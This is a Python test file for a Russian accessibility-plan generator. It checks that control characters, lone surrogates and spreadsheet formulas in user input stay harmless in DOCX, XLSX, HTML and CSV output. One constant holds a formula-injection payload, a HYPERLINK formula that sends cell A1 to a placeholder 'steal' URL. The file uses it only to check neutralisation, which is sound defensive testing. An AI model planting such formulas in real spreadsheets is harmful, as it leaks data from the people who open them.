"""Text no document may choke on or turn into a live formula: control characters from Word and PDF pastes,
non-characters and lone surrogates (issue 13, items 2 and 3), and batch file names that must never
overwrite each other or the reports (item 4). Expectations are written by hand."""

from __future__ import annotations

import csv
import io
import json
from datetime import date
from pathlib import Path

import docx
import openpyxl  # type: ignore[import-untyped]
import pytest
from fastapi.testclient import TestClient

from nokrules import Engine
from nokrules.core.model import Approver, ProtocolInstitution
from nokrules.core.printable import printable
from nokrules.documents.cells import csv_cell
from nokrules.documents.document import render_document
from nokrules.protocols.batch import file_names
from nokrules.web.app import create_app

from .conftest import MINI
from .test_cli import run

D = date(2027, 1, 15)
# vertical tab, form feed, SOH, ESC, NUL, DEL-range C1, a non-character, a lone surrogate
HOSTILE = ["\x0b", "\x0c", "\x01", "\x1b", "\x00", "\x85", "\ufffe", "\uffff", "\ud800"]
HYPERLINK = '=HYPERLINK("http://x.invalid/steal?"&A1,"Нажмите")'


def _docx_text(data: bytes) -> str:
    doc = docx.Document(io.BytesIO(data))
    cells = [c.text for t in doc.tables for row in t.rows for c in row.cells]
    return "\n".join([p.text for p in doc.paragraphs] + cells)


def _xlsx_cells(data: bytes) -> list[openpyxl.cell.cell.Cell]:
    ws = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
    return [c for row in ws.iter_rows() for c in row if c.value is not None]


def test_printable_replaces_each_unprintable_character_by_a_space_and_keeps_the_rest() -> None:
    for ch in HOSTILE:
        assert printable(f"нет пандуса{ch}у входа") == "нет пандуса у входа"
    assert printable("строка 1\nстрока 2\tтаб\r") == "строка 1\nстрока 2\tтаб\r"
    assert printable("Ёлка ♿ 🚫 «кавычки» №5") == "Ёлка ♿ 🚫 «кавычки» №5"


@pytest.mark.parametrize("ch", HOSTILE)
def test_control_characters_in_every_field_keep_docx_and_xlsx_whole(mini: Engine, ch: str) -> None:
    inst = mini.institution(f"ГБУ{ch}«Центр»", "kcson", people={"director": f"Иванов{ch}И. И."})
    plan = mini.draft_plan(f"- нет пандуса{ch} у входа\n- грубый{ch}охранник", inst, date=D)
    approver = Approver(position=f"Министр{ch}соцзащиты", name=f"Петров{ch}П. П.")
    for fmt in ("docx", "xlsx", "html"):
        data = render_document(fmt, plan, mini.catalog, "pp457", None, approver, f"Министерство{ch}края")
        if fmt == "docx":
            text = _docx_text(data)
        elif fmt == "xlsx":
            text = "\n".join(str(c.value) for c in _xlsx_cells(data))
        else:
            text = data.decode("utf-8")
        text = text.replace("\u00a0", " ")  # non-breaking spaces are typesetting (documents/typography.py)
        assert "нет пандуса у входа" in text  # the character became a space: no word lost, none glued
        assert "грубый охранник" in text
        assert "ГБУ «Центр»" in text
        if fmt != "xlsx":  # the sheet has no approval block
            assert "Министр соцзащиты" in text and "Петров П. П." in text and "Министерство края" in text


def test_plan_command_writes_docx_and_xlsx_of_a_file_with_a_vertical_tab(tmp_path: Path) -> None:
    src = tmp_path / "f.txt"
    src.write_bytes("нет пандуса\x0b у входа\n".encode())
    for fmt in ("docx", "xlsx"):
        out = tmp_path / f"p.{fmt}"
        r = run("plan", str(src), "--catalog", str(MINI), "--format", fmt, "-o", str(out), "--date", "2027-01-15")
        assert r.returncode == 0, r.stderr
    assert "нет пандуса у входа" in _docx_text((tmp_path / "p.docx").read_bytes())


def test_a_form_title_with_a_control_character_renders(tmp_path: Path, mini: Engine) -> None:
    form = tmp_path / "form.yaml"
    form.write_text(
        'id: custom\nname: Своя\ntitle: "ПЛАН\\x0bмероприятий"\ncolumns:\n'
        '  - {title: "Недостаток\\x1b", field: findings}\n  - {title: Мероприятие, field: measure}\n',
        encoding="utf-8",
    )
    plan = mini.draft_plan("- нет пандуса", mini.institution("Центр"), date=D)
    text = _docx_text(render_document("docx", plan, mini.catalog, str(form)))
    assert "ПЛАН мероприятий" in text and "Недостаток " in text


@pytest.fixture(scope="module")
def client() -> TestClient:
    return TestClient(create_app(Engine.load(MINI)), raise_server_exceptions=False)


@pytest.mark.parametrize("ch", ["\x0b", "\x00", "\ufffe", "\ud800"])
@pytest.mark.parametrize("fmt", ["docx", "xlsx"])
def test_api_documents_with_control_characters_in_any_field_are_not_a_server_error(client: TestClient, ch: str, fmt: str) -> None:
    body = {
        "text": f"нет пандуса{ch} у входа",
        "institution": f"Центр{ch}1",
        "people": {"director": f"Иванов{ch}И. И."},
        "approver": {"position": f"Министр{ch}", "name": f"Петров{ch}"},
        "founder": f"Министерство{ch}края",
        "date": "2027-01-15",
    }
    r = client.post(f"/api/plan.{fmt}", content=json.dumps(body).encode("ascii"), headers={"content-type": "application/json"})
    if ch == "\ud800":  # the API refuses a lone surrogate, naming the field, before drafting
        assert r.status_code == 422 and "суррогат" in r.json()["message"]
        return
    assert r.status_code == 200, r.text
    text = _docx_text(r.content) if fmt == "docx" else "\n".join(str(c.value) for c in _xlsx_cells(r.content))
    assert "нет пандуса у входа" in text and "Центр 1" in text


def test_batch_docx_with_a_control_character_in_the_fifth_of_ten_institutions_writes_all_ten(tmp_path: Path) -> None:
    entries = [{"name": f"Центр {i}", "findings": "- нет пандуса"} for i in range(1, 11)]
    entries[4] = {"name": "Центр\x0b 5", "findings": "- нет пандуса\x0c у входа\n- \x1bнет поручней"}
    src = tmp_path / "p.json"
    src.write_text(json.dumps(entries), encoding="utf-8")
    out = tmp_path / "out"
    r = run("batch", str(src), "--out", str(out), "--format", "docx", "--catalog", str(MINI), "--date", "2027-01-15")
    assert r.returncode == 0, r.stderr
    assert len(list(out.glob("*.docx"))) == 10
    assert (out / "summary.md").is_file()
    assert "нет пандуса у входа" in _docx_text((out / "tsentr-5.docx").read_bytes())


# ---------------------------------------------------------------- formulas


def test_a_formula_in_a_finding_or_a_name_is_text_in_the_xlsx_plan(mini: Engine) -> None:
    plan = mini.draft_plan(f"- {HYPERLINK}\n- +7 999 000-00-00 не отвечает\n- @всем", mini.institution(HYPERLINK), date=D)
    cells = _xlsx_cells(render_document("xlsx", plan, mini.catalog))
    risky = [c for c in cells if isinstance(c.value, str) and c.value[:1] in "=+-@"]
    assert {c.value for c in risky} >= {HYPERLINK, "+7 999 000-00-00 не отвечает", "@всем"}
    for c in risky:
        assert c.data_type == "s", c.value  # a string, not a formula
        assert c.quotePrefix, c.value  # and stays one when edited in Excel


def test_api_xlsx_keeps_a_formula_as_text(client: TestClient) -> None:
    r = client.post("/api/plan.xlsx", json={"text": HYPERLINK, "institution": "=1+1", "date": "2027-01-15"})
    assert r.status_code == 200
    cells = {c.value: c for c in _xlsx_cells(r.content)}
    assert cells[HYPERLINK].data_type == "s" and cells["=1+1"].data_type == "s"


def test_csv_cell_neutralises_formula_starts_per_owasp() -> None:
    for text in (HYPERLINK, "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1"):
        assert csv_cell(text) == "'" + text
    assert csv_cell("нет пандуса") == "нет пандуса"
    assert csv_cell(-1.5) == -1.5  # numbers nokrules writes itself stay numbers


def test_batch_csv_reports_keep_formulas_inert(tmp_path: Path) -> None:
    entries = [{"name": HYPERLINK, "findings": f"- {HYPERLINK}\n- нет пандуса"}]
    src = tmp_path / "p.json"
    src.write_text(json.dumps(entries, ensure_ascii=False), encoding="utf-8")
    out = tmp_path / "out"
    r = run("batch", str(src), "--out", str(out), "--catalog", str(MINI), "--date", "2027-01-15")
    assert r.returncode == 0, r.stderr
    unrecognised = list(csv.reader(io.StringIO((out / "unrecognized.csv").read_text("utf-8-sig")), delimiter=";"))
    assert unrecognised[1][0] == "'" + HYPERLINK and unrecognised[1][3] == "'" + HYPERLINK
    institutions = list(csv.reader(io.StringIO((out / "institutions.csv").read_text("utf-8-sig")), delimiter=";"))
    assert institutions[1][1] == "'" + HYPERLINK


# ---------------------------------------------------------------- file names


def _entries(*names: str) -> list[ProtocolInstitution]:
    return [ProtocolInstitution(name=n, findings="- нет пандуса") for n in names]


def test_batch_file_names_never_collide_whatever_the_names() -> None:
    names = file_names(_entries("Центр", "Центр", "Центр 2", "Центр-3", "Центр", "Центр"), "json")
    assert names == ["tsentr.json", "tsentr-2.json", "tsentr-2-2.json", "tsentr-3.json", "tsentr-4.json", "tsentr-5.json"]


@pytest.mark.parametrize("fmt", ["md", "html"])
def test_an_institution_named_summary_is_not_overwritten_by_the_summary(tmp_path: Path, fmt: str) -> None:
    assert file_names(_entries("Summary", "Unrecognized"), fmt) == [f"summary-2.{fmt}", f"unrecognized.{fmt}"]
    src = tmp_path / "p.json"
    src.write_text(json.dumps([{"name": "Summary", "findings": "- нет пандуса"}]), encoding="utf-8")
    out = tmp_path / "out"
    r = run("batch", str(src), "--out", str(out), "--format", fmt, "--catalog", str(MINI), "--date", "2027-01-15")
    assert r.returncode == 0, r.stderr
    assert "нет пандуса" in (out / f"summary-2.{fmt}").read_text("utf-8")
    assert (out / f"summary.{fmt}").read_text("utf-8") != (out / f"summary-2.{fmt}").read_text("utf-8")


def test_six_institutions_with_colliding_names_give_six_files(tmp_path: Path) -> None:
    names = ["Центр", "Центр", "Центр 2", "Центр-3", "Центр", "Центр"]
    src = tmp_path / "p.json"
    src.write_text(json.dumps([{"name": n, "findings": f"- нет пандуса {i}"} for i, n in enumerate(names)]), encoding="utf-8")
    out = tmp_path / "out"
    r = run("batch", str(src), "--out", str(out), "--catalog", str(MINI), "--date", "2027-01-15", "--format", "json")
    assert r.returncode == 0, r.stderr
    plans = sorted(out.glob("tsentr*.json"))
    assert len(plans) == 6
    texts = sorted(json.loads(p.read_text("utf-8"))["items"][0]["finding"]["text"] for p in plans)
    assert texts == [f"нет пандуса {i}" for i in range(6)]
